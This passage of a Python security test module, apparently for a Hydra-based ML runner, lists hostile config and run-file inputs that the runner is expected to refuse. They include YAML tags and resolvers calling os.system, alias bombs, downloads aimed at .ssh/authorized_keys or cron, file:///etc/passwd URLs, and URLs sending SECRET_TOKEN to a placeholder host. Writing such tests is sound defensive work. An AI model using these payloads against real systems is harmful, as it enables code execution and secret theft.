# ruff: noqa: E501, B008, C901  tables: one attack a line, and functions that are lists
"""Attacks by kind: what a stranger gives, the command of the victim, and the refusal that is expected."""

import hashlib
import itertools
import json
import os
import sqlite3
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import yaml

from tests.security import hostile

REFUSED, FAILED = (2,), (1, 2)


@dataclass(frozen=True)
class Attack:
    """One attack: files of the stranger below the project, the victim's command, and how it must end.

    Attributes:
        kind: the group that it belongs to.
        name: of this one, unique in its kind.
        argv: the command line.
        expects: a pattern of what is said; empty where the status says it.
        status: the exit statuses that are right.
        files: texts or bytes by their place below the project.
        prepare: whatever else is laid out; gets the box.
        holds: looks at the box afterwards; the words for what is wrong, else empty.
    """

    kind: str
    name: str
    argv: tuple[str, ...]
    expects: str = ""
    status: tuple[int, ...] = REFUSED
    files: dict[str, Any] = field(default_factory=dict)
    prepare: Callable[[Any], object] | None = None
    holds: Callable[[Any], str] | None = None


# ---- names of what would do harm, and the doors by which a name enters

NAMES = [
    "os.system", "posix.system", "subprocess.run", "subprocess.check_output", "builtins.eval", "builtins.exec",
    "builtins.__import__", "builtins.open", "shutil.rmtree", "shutil.move", "importlib.import_module", "runpy.run_path",
    "pickle.loads", "pickle.load", "marshal.loads", "ctypes.CDLL", "webbrowser.open", "code.interact", "pty.spawn",
    "socket.create_connection", "urllib.request.urlopen", "tempfile.NamedTemporaryFile", "functools.partial",
    "operator.attrgetter", "types.FunctionType", "antigravity.geohash", "this.s", "cProfile.run", "timeit.timeit",
    "hydra.utils.get_method", "hydra.utils.instantiate", "hydra._internal.utils._locate", "omegaconf.OmegaConf.load",
    "yaml.unsafe_load", "logging.config.dictConfig", "numpy.load", "numpy.savetxt", "numpy.f2py.compile",
    "joblib.load", "sklearn.externals.joblib.load", "sympy.sympify", "pandas.read_pickle", "pandas.eval",
    "PIL.ImageMath.eval", "matplotlib.pyplot.savefig", "tensorboardX.SummaryWriter", "pip.main", "pytest.main",
    "evil_module.Model", "evil_package.sub.Model", "evil_package.pull",
    "torch.load", "torch.save", "torch.hub.load", "torch.hub.download_url_to_file", "torch.jit.load",
    "torch.jit.script", "torch.compile", "torch.serialization.load", "torch.serialization.os.system",
    "torch.package.PackageImporter", "torch.fx.GraphModule", "torch.fx.Interpreter", "torch.ops.load_library",
    "torch.utils.cpp_extension.load_inline", "torch.utils.model_zoo.load_url", "torch._inductor.codecache.os.system",
    "torch.distributed.nn.RemoteModule", "torch.distributed.init_process_group", "torch.multiprocessing.spawn",
    "torch.utils.data.datapipes.utils.decoder.basichandlers", "torch.utils.data.datapipes.gen_pyi.gen_from_template",
    "torch.utils.data.dataloader.torch.load", "torch.utils.data.functional_datapipe", "torch.utils.benchmark.Timer",
    "torch.utils.tensorboard.SummaryWriter", "torch.utils.bottleneck.__main__.main", "torch.utils.collect_env.run",
    "torch.nn.functional.torch.load", "torch.nn.functional.torch.hub.load", "torch.nn.functional.torch.save",
    "torch.nn.functional.torch.ops.load_library", "torch.nn.functional.torch.hub.download_url_to_file",
    "torch.nn.functional.importlib.import_module", "torch.nn.functional.boolean_dispatch",
    "torch.nn.functional.handle_torch_function", "torch.nn.functional.warnings.sys.exit", "torch.nn.Module.__init__",
    "torch.nn.Module.load_state_dict", "torch.nn.modules.module.functools.partial", "torch.nn.modules.module.torch.load",
    "torch.nn.init.warnings.warn", "torch.nn.parallel.distributed.os.system", "torch.nn.utils.stateless.contextlib",
    "torch.optim.lr_scheduler.partial", "torch.optim.lr_scheduler.Optimizer.load_state_dict",
    "torch.optim.optimizer.functools.reduce", "torch.optim.swa_utils.deepcopy",
    "torchvision.io.read_image", "torchvision.io.write_file", "torchvision.datasets.utils.download_url",
    "torchvision.datasets.utils.extract_archive", "torchvision.datasets.utils.os.system",
    "torchvision.datasets.folder.default_loader.__globals__", "torchvision.datasets.lsun.pickle.load",
    "torchvision.datasets.LSUN", "torchvision.datasets.LSUNClass", "torchvision.models._api.get_weight",
    "torchvision.models.get_model", "torchvision.models.resnet.torch.load", "torchvision.models.feature_extraction.fx.wrap",
    "torchvision.models.ResNet18_Weights.DEFAULT.get_state_dict", "torchvision.transforms.transforms.torch.load",
    "torchvision.transforms.v2.functional.register_kernel", "torchvision.utils.save_image",
    "torchmetrics.metric.torch.load", "torchmetrics.metric.functools.partial", "torchmetrics.text.ROUGEScore",
    "torchmetrics.text.BERTScore", "torchmetrics.utilities.imports.import_module",
    "runner.__main__.main", "runner.core.files.write_text", "runner.core.archive.unpack", "runner.core.download.fetch",
    "runner.config.check.imports.import_object", "runner.core.errors.signal.alarm",
    "runner.experiment.builders.instantiate.instantiate", "models.cnn.F.torch.hub.load", "datasets.digits.torch.load",
]  # fmt: skip

# `{0}` is the name. Each is a file conf/experiment/evil.yaml, but for its first two lines.
DOORS = {
    "model": "model: {{_target_: {0}}}",
    "model with arguments": "model: {{_target_: {0}, _args_: [x, {{weights_only: false}}]}}",
    "model partial": "model: {{_target_: {0}, _partial_: true}}",
    "in a list of arguments": "model: {{_target_: torch.nn.Sequential, _args_: [{{_target_: {0}, _args_: [id]}}]}}",
    "deep in lists": "model: {{_target_: torch.nn.Sequential, _args_: [[[{{a: [{{_target_: {0}}}]}}]]]}}",
    "a norm layer": "model: {{_target_: torchvision.models.resnet18, norm_layer: {{_target_: {0}, _partial_: true}}}}",
    "lambd": "transform: {{train: {{a: {{_target_: torchvision.transforms.Lambda, lambd: {{_target_: {0}}}}}}}}}",
    "loader": "dataset: {{source: null, train: {{_target_: torchvision.datasets.DatasetFolder, root: ., "
    "loader: {{_target_: {0}, _partial_: true}}}}}}",
    "a transform of a dataset": "dataset: {{source: null, train: {{_target_: torchvision.datasets.FakeData, "
    "transform: {{_target_: {0}}}}}}}",
    "evaluated set": "dataset: {{evaluate: {{night: {{_target_: {0}}}}}}}",
    "loss": "loss: {{_target_: {0}, _args_: ['touch owned']}}",
    "weight of a loss": "loss: {{_target_: torch.nn.CrossEntropyLoss, weight: {{_target_: {0}, _args_: [x]}}}}",
    "metric": "metrics: {{m: {{_target_: {0}}}}}",
    "collection": "metrics: {{m: {{_target_: torchmetrics.MetricCollection, metrics: [{{_target_: {0}}}]}}}}",
    "collate": "loader: {{collate_fn: {{_target_: {0}}}}}",
    "worker_init": "loader: {{worker_init_fn: {{_target_: {0}}}}}",
    "sampler": "loader: {{sampler: {{_target_: {0}}}}}",
    "inner sampler": "loader: {{sampler: {{_target_: torch.utils.data.BatchSampler, batch_size: 4, drop_last: false, "
    "sampler: {{_target_: {0}}}}}}}",
    "init weight": "init: {{rules: {{r: {{module: torch.nn.Linear, weight: {{_target_: {0}}}}}}}}}",
    "init module": "init: {{rules: {{r: {{module: {0}, weight: 0}}}}}}",
    "init apply": "init: {{apply: {{_target_: {0}}}}}",
    "optimizer": "optimizer: {{_target_: {0}}}",
    "argument of an optimizer": "optimizer: {{extra: {{_target_: {0}, _args_: [id]}}}}",
    "several optimizers": "optimizer: {{_target_: runner.train.optimizer_step.several_optimizers.Optimizers, "
    "a: {{_target_: {0}, match: '.*'}}}}",
    "scheduler": "scheduler: {{_target_: {0}}}",
    "lr_lambda": "scheduler: {{_target_: torch.optim.lr_scheduler.LambdaLR, lr_lambda: {{_target_: {0}}}}}",
    "inner scheduler": "scheduler: {{_target_: torch.optim.lr_scheduler.SequentialLR, schedulers: [{{_target_: {0}}}], "
    "milestones: [1]}}",
    "step": "step: {{_target_: {0}}}",
    "batch transform": "transform: {{batch: {{mix: {{_target_: {0}}}}}}}",
    "hook": "log: {{hooks: {{h: {{name: '.*', forward: {{_target_: {0}}}}}}}}}",
    "tracker": "log: {{to: {{t: {{_target_: {0}}}}}}}",
    "search": "sweep: {{search: {{sampler: {{_target_: {0}}}}}}}",
    "an interpolation": "model: {{_target_: '${{loss.reduction}}'}}\nloss: {{_target_: torch.nn.MSELoss, reduction: {0}}}",
    "an interpolation in parts": "name: {0}\nmodel: {{_target_: '${{name}}'}}",
    "decoded": "model: {{_target_: \"${{oc.decode:'{0}'}}\"}}",
    "from the environment": "model: {{_target_: '${{oc.env:NOTHING,{0}}}'}}",
    "an alias": "loss: &a {{_target_: {0}}}\nmodel: {{_target_: torch.nn.Sequential, _args_: [*a]}}",
    "a merge key": "loss: &a {{_target_: {0}}}\nmodel: {{<<: *a}}",
    "a quoted key": "model: {{\"_target_\": '{0}'}}",
    "an escaped key": 'model: {{"\\x5ftarget\\x5f": "{0}"}}',
    "a folded text": "model:\n  _target_: >-\n    {0}",
}


def of_names():
    """Every name through four doors, so that every door has had every fourth or so."""
    doors = itertools.cycle(DOORS.items())
    for name in NAMES:
        for _ in range(4):
            door, form = next(doors)
            text = "# @package _global_\ndevice: {type: cpu}\n" + form.format(name) + "\n"
            yield Attack(
                "a name in a config", f"{name} as {door}", ("check", "experiment=evil"),
                r"(?i)_target_|module|not a key|is no|lambd|extra|worker_init|must|`_args_`",
                files={"conf/experiment/evil.yaml": text},
            )  # fmt: skip
        next(doors)


def of_groups():
    """A name that enters by a group's file, a defaults list or the primary config."""
    where = {
        "a group's file": {"conf/model/evil.yaml": "_target_: {0}\n"},
        "a nested defaults list": {
            "conf/model/evil.yaml": "defaults: [inner]\n",
            "conf/model/inner.yaml": "_target_: {0}\n",
        },
        "a package header": {
            "conf/model/evil.yaml": "defaults: [small_cnn, /loss@_global_.metrics.m: evil]\n",
            "conf/loss/evil.yaml": "_target_: {0}\n",
        },
        "a global package": {"conf/model/evil.yaml": "# @package _global_\nmodel: {{_target_: {0}}}\n"},
        "the file that shadows ours": {"conf/model/small_cnn.yaml": "_target_: {0}\n"},
        "the primary config": {"conf/config.yaml": "defaults: [_self_]\nmodel: {{_target_: {0}}}\n"},
    }
    for (place, files), name in itertools.product(where.items(), NAMES[::9]):
        option = "evil" if "conf/model/evil.yaml" in files else "small_cnn"
        argv = ("check",) if "conf/config.yaml" in files else ("check", "experiment=null", f"model={option}")
        yield Attack(
            "a name in a group", f"{name} in {place}", argv,
            files={file: text.format(name) for file, text in files.items()},
        )  # fmt: skip


def of_shadows():
    """A folder or file of the project that makes a library look like user code."""
    inside = {"empty": "", "data": "x.bin", "deep": "a/b.txt", "text": "notes.md", "empty stub": "py.typed"}
    for name, (label, file) in itertools.product(
        ("joblib.load", "sympy.sympify", "evil_package.pull", "pandas.eval", "yaml.unsafe_load"), inside.items()
    ):
        first = name.partition(".")[0]
        yield Attack(
            "a folder named as a library", f"{first} {label}", ("check", "experiment=null", "model=evil"),
            "_target_", files={"conf/model/evil.yaml": f"_target_: {name}\n"},
            prepare=lambda box, first=first, file=file: _shadow(box, first, file),
        )  # fmt: skip


def _shadow(box, first, file):
    (box.project / first).mkdir(parents=True, exist_ok=True)
    if file:
        box.write(f"{first}/{file}", "x")


def of_hydra():
    """Hydra's own node and groups, which execute or import."""
    global_ = {
        "callbacks": "hydra: {callbacks: {evil: {_target_: evil_module.Model}}}",
        "launcher": "hydra: {launcher: {_target_: evil_module.Model}}",
        "sweeper": "hydra: {sweeper: {_target_: evil_module.Model}}",
        "searchpath": "hydra: {searchpath: ['pkg://evil_package']}",
        "searchpath of a file": "hydra: {searchpath: ['file:///etc']}",
        "run dir": "hydra: {run: {dir: ../victim}}",
        "output subdir": "hydra: {output_subdir: ../../victim}",
        "job env": "hydra: {job: {env_set: {LD_PRELOAD: x.so}}}",
        "env copy": "hydra: {job: {env_copy: [SECRET_TOKEN]}}",
        "chdir": "hydra: {job: {chdir: true}}",
        "logging": "hydra: {job_logging: {version: 1, handlers: {x: {class: evil_module.Model}}}}",
        "hydra logging": "hydra: {hydra_logging: {version: 1, handlers: {x: {(): evil_module.pull}}}}",
        "verbose": "hydra: {verbose: true}",
        "override job_logging": "defaults: [override /hydra/job_logging: none]",
        "override launcher": "defaults: [override /hydra/launcher: basic]",
        "override sweeper": "defaults: [override /hydra/sweeper: basic]",
        "a group as hydra": "defaults: [/optimizer@hydra.launcher: adam]",
        "a group as callbacks": "defaults: [/loss@hydra.callbacks.x: mse]",
    }
    for name, text in global_.items():
        yield Attack(
            "a file that configures Hydra", f"{name} in an experiment", ("check", "experiment=evil"), "hydra|searchpath",
            files={"conf/experiment/evil.yaml": f"# @package _global_\n{text}\n"},
        )  # fmt: skip
        primary = text.replace("override /hydra", "override hydra")
        argv = ("check",) if not text.startswith("defaults: [/") else ("check", "experiment=null")
        yield Attack(
            "a file that configures Hydra", f"{name} in the primary config", argv, "", files={
                "conf/config.yaml": f"{primary}\n" if "defaults" in text else f"defaults: [_self_]\n{primary}\n"
            },
        )  # fmt: skip
    for name, header in {"callbacks": "hydra.callbacks.evil", "launcher": "hydra.launcher", "root": "hydra"}.items():
        yield Attack(
            "a file that configures Hydra", f"package {name}", ("check", "experiment=evil"), "hydra",
            files={"conf/experiment/evil.yaml": f"# @package {header}\n_target_: evil_module.Model\n"},
        )  # fmt: skip
    for group in ("launcher", "sweeper", "job_logging", "help", "output", "callbacks"):
        yield Attack(
            "a file that configures Hydra", f"conf/hydra/{group}", ("check", "++model.width=8"), "",
            (0, 2), {f"conf/hydra/{group}/default.yaml": "_target_: evil_module.Model\n",
                     f"conf/hydra/{group}/basic.yaml": "_target_: evil_module.Model\n"},
        )  # fmt: skip
    yield Attack(
        "a file that configures Hydra", "hydra_plugins in the project", ("check",), "", (0,),
        {"hydra_plugins/evil.py": "open('owned', 'w').close()\n", "hydra_plugins/__init__.py": ""},
    )  # fmt: skip


# ---- YAML that costs, and YAML that is more than data

BOMB = "\n".join(["a: &a [x,x,x,x,x,x,x,x,x]"] + [
    f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]" for a, b in itertools.pairwise("abcdefghijk")])  # fmt: skip
GROWTH = "\n".join(["x0: aaaaaaaaaa", *(f"x{i}: '${{.x{i - 1}}}${{.x{i - 1}}}'" for i in range(1, 60))])
YAML = {
    "alias bomb": BOMB,
    "alias bomb of merges": "a: &a {x: 1}\n" + "\n".join(
        f"{b}: &{b} {{p: *{a}, q: *{a}, r: *{a}, s: *{a}}}" for a, b in itertools.pairwise("abcdefghijklmno")),
    "interpolation bomb": GROWTH,
    "circle of interpolations": "a: ${.b}\nb: ${.a}",
    "an interpolation of itself": "a: ${.a}",
    "nested interpolations": "a: " + "${" * 400 + "b" + "}" * 400,
    "deep lists": "a: " + "[" * 50_000 + "]" * 50_000,
    "deep mappings": "a: " + "{a: " * 20_000 + "1" + "}" * 20_000,
    "deep blocks": "\n".join(" " * i + "a:" for i in range(900)),
    "deep dashes": "a:\n " + "- " * 20_000 + "1",
    "an alias of itself": "a: &a [*a]",
    "a large file": "a: '" + "x" * 2_000_000 + "'",
    "many keys": "\n".join(f"k{i}: 1" for i in range(60_000)),
    "python object": "a: !!python/object/apply:os.system ['touch owned']",
    "python object new": "a: !!python/object/new:os.system ['touch owned']",
    "python name": "a: !!python/name:os.system ''",
    "python module": "a: !!python/module:evil_module ''",
    "a tag of its own": "a: !evil x",
    "a verbatim tag": "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']",
    "a tag handle": "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ['id']",
    "binary": "a: !!binary gASVIgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    "a set": "a: !!set {x, y}",
    "ordered": "a: !!omap [x: 1]",
    "a timestamp": "a: 2001-99-99 99:99:99",
    "a long integer": "a: " + "9" * 20_000,
    "a long hexadecimal": "a: 0x" + "f" * 200_000,
    "a long octal": "a: 0" + "7" * 20_000,
    "base sixty": "a: " + ":".join(["59"] * 5_000),
    "underscores": "a: 1" + "_" * 50_000 + "1",
    "a huge float": "a: 1e999999999",
    "NUL": "a: \"\\0\"\nb: 'x\x00y'",
    "not UTF-8": b"a: \xff\xfe\xfa",
    "surrogates": b"a: \xed\xa0\x80",
    "two documents": "a: 1\n---\nb: 2",
    "a list": "- a\n- b",
    "a text": "just words",
    "a key that is a list": "? [a, b]\n: 1",
    "a key that is a mapping": "? {a: b}\n: 1",
    "a key that is null": "? \n: 1",
    "a key of a million": "'" + "k" * 900_000 + "': 1",
    "a duplicate": "a: 1\na: 2",
    "an unclosed quote": "a: 'x",
    "tabs": "a:\n\t- x",
    "anchors without end": "\n".join(f"a{i}: &n{i} x" for i in range(30_000)),
    "a comment bomb": "#" * 1_500_000,
    "regular expression bomb": "a: " + "${" + "a" * 30_000 + "!",
    "many interpolations": "a: '" + "${x}" * 20_000 + "'",
    "escapes": 'a: "' + "\\x1b[2J" * 20 + '"',
    "environment of nothing": "a: ${oc.env:NOT_SET_AT_ALL}",
    "a resolver of nobody": "a: ${eval:__import__('os').system('id')}",
    "a resolver of Hydra": "a: ${hydra:runtime.cwd}",
    "oc.create": "a: ${oc.create:'{_target_: os.system}'}",
    "oc.dict": "a: ${oc.dict.values:x}",
    "oc.deprecated": "a: ${oc.deprecated:x}",
    "oc.select": "a: ${oc.select:" + "x." * 3_000 + "y}",
}  # fmt: skip


def of_yaml():
    for name, text in YAML.items():
        raw = text if isinstance(text, bytes) else text.encode()
        option = {"conf/model/evil.yaml": b"_target_: models.mlp.MLP\n" + raw}
        if name in ("a tag handle", "a list", "a text", "two documents"):
            option = {"conf/model/evil.yaml": raw}
        yield Attack("YAML", f"{name} in a group", ("check", "experiment=null", "model=evil"), files=option)
        yield Attack(
            "YAML", f"{name} in an experiment", ("check", "experiment=evil"),
            files={"conf/experiment/evil.yaml": b"# @package _global_\n" + raw},
        )  # fmt: skip
        for verb, place in itertools.product(("evaluate", "explain"), ("config.yaml", ".hydra/config.yaml")):
            if (verb == "evaluate") == (place == "config.yaml"):
                yield Attack(
                    "YAML of a run", f"{name} in {place}", (verb, "stranger"), "", (0, 1, 2),
                    prepare=lambda box, raw=raw, place=place: (box.stranger() / place).write_bytes(raw),
                )  # fmt: skip
        yield Attack(
            "YAML of a run", f"{name} in both files", ("resume", "stranger", "train.duration=2ep"), "cannot be read",
            prepare=lambda box, raw=raw: [
                (box.stranger() / place).write_bytes(raw) for place in ("config.yaml", ".hydra/config.yaml")
            ],
        )  # fmt: skip
        yield Attack(
            "YAML of points", name, ("check", "-m", "sweep.points=points.yaml"), "",
            files={"points.yaml": raw if name == "a list" else b"- optimizer.lr: 1\n  loss.x:\n" + b"\n".join(
                b"    " + line for line in raw.splitlines())},
        )  # fmt: skip


# ---- records of a stranger's run


def change(box, **keys):
    """Set keys of the recorded config, in both files."""
    folder = box.stranger()
    for place in ("config.yaml", ".hydra/config.yaml"):
        data = yaml.safe_load((folder / place).read_text())
        for key, value in keys.items():
            node = data
            *above, last = key.split("__")
            for part in above:
                node = node.setdefault(part, {})
                node = node if isinstance(node, dict) else {}
            node[last] = value
        (folder / place).write_text(yaml.safe_dump(data))


VERBS = (("evaluate", "stranger"), ("resume", "stranger", "train.duration=2ep", "--inexact"), ("explain", "stranger"))
RECORDED = {
    "model": lambda name: {"model": {"_target_": name}},
    "model with arguments": lambda name: {"model": {"_target_": name, "_args_": ["x"], "weights_only": False}},
    "lambd": lambda name: {
        "transform__eval": {"a": {"_target_": "torchvision.transforms.Lambda", "lambd": {"_target_": name}}}
    },
    "metric": lambda name: {"metrics": {"m": {"_target_": name}}},
    "loss": lambda name: {"loss": {"_target_": name, "_args_": ["touch owned"]}},
    "dataset": lambda name: {"dataset__source": {"_target_": name}},
    "optimizer": lambda name: {"optimizer": {"_target_": name, "lr": 0.1}},
    "init": lambda name: {"init__rules": {"r": {"module": name, "weight": 0}}},
    "an interpolation": lambda name: {"name": name, "model": {"_target_": "${name}"}},
}


def of_records():
    forms = itertools.cycle(RECORDED.items())
    verbs = itertools.cycle(VERBS)
    for name in NAMES:
        for _ in range(2):
            (place, form), argv = next(forms), next(verbs)
            yield Attack(
                "a name in a record", f"{name} as {place}, {argv[0]}", argv, r"_target_|module|`",
                prepare=lambda box, form=form, name=name: change(box, **form(name)),
            )  # fmt: skip
        next(forms)


PLACES_OF_DOWNLOADS = [
    "../x.bin", "/etc/cron.d/x", "/tmp/evil.bin", "data/../../x.bin", "data/../models/evil.py", "models/evil.py",
    "models/evil.so", "models/x.pyc", "evil.py", "x.bin", ".git/hooks/pre-commit", ".ssh/authorized_keys", "data/.x/y",
    ".venv/lib/python3.11/site-packages/x.pth", "lib/site-packages/x.bin", "data/x.pth", "data/sitecustomize.py",
    "data/conftest.py", "data/Makefile", "Makefile", "data/GNUmakefile", "data/setup.cfg", "data/pyproject.toml",
    "data/Dockerfile", "data/x.sh", "data/run.bat", "conf/model/small_cnn.yaml", "CONF/x.yaml", "conf/x.bin",
    "hydra_plugins/x.bin", "tests/x.bin", "bin/ls", "scripts/run", "joblib/x.bin", "sympy/x.bin", "evil_package/x.bin",
    "yaml/x.bin", "link/x.bin", "data/link/x.bin", "~/x.bin", "data/\x1b[2J", "data/a\nb", "data/", "", ".", "..",
    "data/requirements.txt", "data/CMakeLists.txt", "data/usercustomize.py", "outputs/../../x", "./data/../.bashrc",
]  # fmt: skip
URLS = [
    "file:///etc/passwd", "ftp://example.org/x", "data:text/plain,x", "gopher://example.org/", "javascript:x",
    "http://", "https://", "//example.org/x", "example.org/x", "http:///x", "http://[::1", "http://exa mple.org/x",
    "http://example.org/\r\nHost: evil",
    "HTTP://example.org/../../x", "", "http://" + "a" * 100_000, "jar:http://example.org!/x", "unix:///run/docker.sock",
]  # fmt: skip


def download(to="data/x.bin", url="http://127.0.0.1:9/x", sha256="0" * 64, **more):
    return {"url": url, "sha256": sha256, "to": to, **more}


def of_downloads():
    def lay(box):
        (box.project / "data").mkdir(exist_ok=True)
        for place in ("link", "data/link"):
            (box.project / place).symlink_to(box.victim, target_is_directory=True)
        (box.project / ".venv").mkdir()
        (box.project / ".venv" / "pyvenv.cfg").touch()

    for place, key in itertools.product(PLACES_OF_DOWNLOADS, ("to", "unpack")):
        node = download() | {key: place} if key == "unpack" else download(place)
        text = yaml.safe_dump({"dataset": {"downloads": {"d": node}}})
        fine = key == "unpack" and place in ("data/Makefile", "data/GNUmakefile", "data/x.sh", "data/run.bat",
            "data/setup.cfg", "data/pyproject.toml", "data/Dockerfile", "data/requirements.txt", "data/CMakeLists.txt",
            "data/x.pth")  # fmt: skip
        if place == "data/" or fine:  # a folder of that name does no harm
            continue
        yield Attack(
            "the place of a download", f"{key} {place!r}", ("check", "experiment=evil"), r"downloads\.d",
            files={"conf/experiment/evil.yaml": f"# @package _global_\n{text}"}, prepare=lay,
        )  # fmt: skip
    verbs = itertools.cycle(VERBS)
    for place in PLACES_OF_DOWNLOADS:
        if place != "data/":
            argv = next(verbs)
            yield Attack(
                "the place of a recorded download", f"{place!r} {argv[0]}", argv, r"downloads\.d",
                prepare=lambda box, place=place: (lay(box), change(box, dataset__downloads={"d": download(place)})),
            )  # fmt: skip
    for url in URLS:
        text = yaml.safe_dump({"dataset": {"downloads": {"d": download(url=url)}}})
        yield Attack(
            "the address of a download", repr(url)[:40], ("check", "experiment=evil"), r"downloads\.d",
            files={"conf/experiment/evil.yaml": f"# @package _global_\n{text}"},
        )  # fmt: skip
    for name, sha256 in {"none": None, "empty": "", "short": "abc", "no hexadecimal": "z" * 64, "a number": 5}.items():
        node = download(sha256=sha256)
        if sha256 is None:
            del node["sha256"]
        text = yaml.safe_dump({"dataset": {"downloads": {"d": node}}})
        yield Attack(
            "the address of a download", f"a SHA-256 that is {name}", ("check", "experiment=evil"), "sha256",
            files={"conf/experiment/evil.yaml": f"# @package _global_\n{text}"},
        )  # fmt: skip
    for name, change_ in {
        "secret in a URL": "http://127.0.0.1:9/${oc.env:SECRET_TOKEN}",
        "decoded secret in a URL": "http://127.0.0.1:9/${oc.decode:${oc.env:SECRET_TOKEN}}",
    }.items():
        text = yaml.safe_dump({"dataset": {"downloads": {"d": download(url=change_)}}})
        yield Attack(
            "a secret of the environment", name, ("check", "experiment=evil"), r"oc\.env",
            files={"conf/experiment/evil.yaml": f"# @package _global_\n{text}"},
        )  # fmt: skip
    yield Attack(
        "a secret of the environment", "through another key", ("check", "experiment=evil"), r"oc\.env",
        files={"conf/experiment/evil.yaml": "# @package _global_\nname: ${oc.env:SECRET_TOKEN}\n" + yaml.safe_dump(
            {"dataset": {"downloads": {"d": download(url="http://127.0.0.1:9/${name}")}}})},
    )  # fmt: skip
    yield Attack(
        "a secret of the environment", "as a URL of weights", ("check", "experiment=evil"), r"oc\.env",
        files={"conf/experiment/evil.yaml": "# @package _global_\npretrained: {strategy: full, sha256: " + "0" * 64
               + ", path: 'http://127.0.0.1:9/${oc.env:SECRET_TOKEN}.pt'}\n"},
    )  # fmt: skip


LINKS = [
    ".lock", "log.txt", "metrics.jsonl", "result.json", "provenance.json", "config.yaml", ".hydra/config.yaml",
    "checkpoints/last.pt", "checkpoints/manifest.json", "checkpoints/best.pt", "pretrained.json", "bad_samples.jsonl",
    ".heartbeat", "log.1.txt", "tb/events.out.tfevents.1.x", "report.csv", "output.txt",
]  # fmt: skip
FOLDERS = ["tb", "tb/final", "checkpoints", ".hydra", "profile", "prune", "queue", "projector"]


def of_links():
    def link(box, place, target, *, hard=False):
        file = box.stranger() / place
        file.parent.mkdir(parents=True, exist_ok=True)
        if file.is_dir() and not file.is_symlink():
            import shutil

            shutil.rmtree(file)
        file.unlink(missing_ok=True)
        if hard:
            os.link(box.victim / target, file)
        else:
            file.symlink_to(box.victim / target)

    verbs = itertools.cycle(VERBS)
    for place in LINKS:
        for target in ("notes.txt", "nothing_there"):
            argv = next(verbs)
            yield Attack(
                "a link in a run", f"{place} to {target}, {argv[0]}", argv, "link|lead|regular|not a run|run director",
                prepare=lambda box, place=place, target=target: link(box, place, target),
            )  # fmt: skip
    for place in FOLDERS:
        for target in ("folder", "empty"):
            argv = next(verbs)
            yield Attack(
                "a link in a run", f"{place} to {target}, {argv[0]}", argv, "link|lead|regular|run director",
                prepare=lambda box, place=place, target=target: link(box, place, target),
            )  # fmt: skip
    for place in ("log.txt", "metrics.jsonl", ".lock"):
        yield Attack(
            "a link in a run", f"{place} as a hard link", VERBS[1], "hard link|other name",
            prepare=lambda box, place=place: link(box, place, "notes.txt", hard=True),
        )  # fmt: skip
    for place in (*LINKS[:9], "checkpoints/step_0000003.pt"):
        argv = next(verbs)
        yield Attack(
            "a pipe in a run", f"{place}, {argv[0]}", argv, "",
            prepare=lambda box, place=place: pipe(box.stranger() / place),
        )  # fmt: skip


def pipe(file):
    file.unlink(missing_ok=True)
    os.mkfifo(file)


DEEP = "[" * 200_000 + "]" * 200_000
JSON = {
    "deep": DEEP,
    "deep in its key": '{"status": ' + DEEP + "}",
    "deep objects": '{"metrics":' * 100_000 + "1" + "}" * 100_000,
    "many values": "[" + "1," * 3_000_000 + "1]",
    "a list": "[]",
    "a number": "5",
    "null": "null",
    "empty": "",
    "a long number": '{"step": ' + "9" * 10_000 + ', "steps": ' + "9" * 4_000 + "}",
    "infinite numbers": '{"status": "completed", "step": 1e999, "steps": 1e999, "metrics": {"val/loss": 1e999}}',
    "huge numbers": json.dumps({"status": "completed", "step": 10**400, "steps": 10**400, "metrics": {"a": 10**400}}),
    "not UTF-8": b'{"status": "\xff\xfe"}',
    "wrong types": json.dumps({"status": [], "metrics": 5, "steps": {}, "entries": 5, "modules": [], "tensors": {},
                               "data": 5, "git": 5, "sha256": [], "resumed": 5, "plan": []}),
    "wrong types inside": json.dumps({"status": "completed", "metrics": {"a": []}, "steps": "x", "entries": [5],
                                      "modules": {"files": 5, "total": []}, "tensors": [5], "data": {"train": 5},
                                      "git": [], "resumed": [5], "step": "x", "seconds": "x", "sha256": "x"}),
    "escapes": json.dumps({"status": "\x1b[2J", "error": "\x1b]0;owned\x07", "metrics": {"\x1b[2J": 1}}),
    "NUL": "\0" * 100_000,
}  # fmt: skip
JSON_FILES = (
    "result.json", "provenance.json", "checkpoints/manifest.json", "pretrained.json", "metrics.jsonl",
    "bad_samples.jsonl",
)  # fmt: skip


def of_json():
    for place, (name, text) in itertools.product(JSON_FILES, JSON.items()):
        for argv in VERBS if place in ("result.json", "provenance.json") else VERBS[:2]:
            raw = text if isinstance(text, bytes) else text.encode()
            yield Attack(
                "a record of a run", f"{name} in {place}, {argv[0]}", argv, "", (0, 1, 2),
                prepare=lambda box, raw=raw, place=place: (box.stranger() / place).write_bytes(raw),
            )  # fmt: skip
        yield Attack(
            "a record of a run", f"{name} in {place}, resume of what is done", ("resume", "stranger"), "", (0, 1, 2),
            prepare=lambda box, raw=text if isinstance(text, bytes) else text.encode(), place=place: (
                box.stranger() / place).write_bytes(raw),
        )  # fmt: skip


# ---- files of tensors


def of_weights():
    for name, content, sparse in hostile.weights():
        yield Attack(
            "a file of weights", name,
            ("check", "model=mlp", "experiment=null", "pretrained.strategy=partial", "pretrained.path=w.pt"),
            "pretrained", prepare=lambda box, content=content, sparse=sparse: hostile.lay(
                box.project / "w.pt", content, sparse),
        )  # fmt: skip
    for name, content, sparse in itertools.islice(hostile.weights(), 0, None, 3):
        yield Attack(
            "a checkpoint of a run", name, ("evaluate", "stranger"), "", FAILED,
            prepare=lambda box, content=content, sparse=sparse: hostile.put_checkpoint(
                box.stranger(), content, sparse),
        )  # fmt: skip
    for name, make in hostile.SPECIAL.items():
        yield Attack(
            "a file of weights", name,
            ("check", "model=mlp", "experiment=null", "pretrained.strategy=partial", "pretrained.path=w.pt"),
            "pretrained", prepare=lambda box, make=make: make(box.project / "w.pt", box),
        )  # fmt: skip


# ---- archives and data


def of_archives():
    def lay(box, content):
        node = download("data/x.bin", sha256=hashlib.sha256(content).hexdigest(), unpack="data/set")
        box.write("conf/experiment/evil.yaml", config.format(json.dumps(node)))
        box.write("data/x.bin", content)

    config = (
        "# @package _global_\ndevice: {{type: cpu}}\ntrain: {{duration: 1st}}\ndataset:\n  downloads:\n    d: {0}\n"
    )
